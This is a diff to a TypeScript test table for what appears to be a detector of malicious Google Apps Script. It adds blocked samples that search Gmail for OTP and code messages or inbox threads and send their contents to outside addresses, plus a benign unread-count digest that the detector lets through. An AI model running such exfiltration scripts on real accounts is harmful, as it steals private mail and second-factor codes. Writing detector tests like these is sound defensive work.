@@ -67,10 +67,13 @@ const CASES: { name: string; block: string[]; pass: string[] }[] = [
       "function run(){ GmailApp.search('is:unread').forEach(t => t.getMessages().forEach(m => m.forward('copyme@outlook.com'))); }",
       "const body = {forwardingAddresses: ['x@proton.me']}; gmail.users.settings.updateAutoForwarding({userId:'me', requestBody:{enabled: true, emailAddress:'x@proton.me'}})",
       "ScriptApp.newTrigger('f').timeBased().everyHours(1).create();\nfunction f(){ GmailApp.getInboxThreads(0,50).forEach(t => t.getMessages()[0].forward('box@acme-archive.net')); }",
+      "function copyCodes(){ GmailApp.search('subject:(OTP OR code)').forEach(function(t){ var m = t.getMessages()[0]; MailApp.sendEmail('keep.box77@gmx.net', 'fwd', m.getPlainBody()); }); }",
+      "function mirror(){ for (const t of GmailApp.getInboxThreads(0, 20)) { const m = t.getMessages().pop(); GmailApp.sendEmail(\"ops-archive@mirror-mail.io\", m.getSubject(), '', {htmlBody: m.getBody()}); } }",
     ],
     pass: [
       "GmailApp.search('label:invoices').forEach(t => sheet.appendRow([t.getFirstMessageSubject()]));",
       "MailApp.sendEmail('me@example.com', 'Daily report', body);",
+      "function digest(){ var n = GmailApp.search('is:unread').length; MailApp.sendEmail('me@example.com', 'Unread: ' + n, 'See inbox'); }",
       "const m = GmailApp.getMessageById(id); Logger.log(m.getSubject());",
     ],
   },
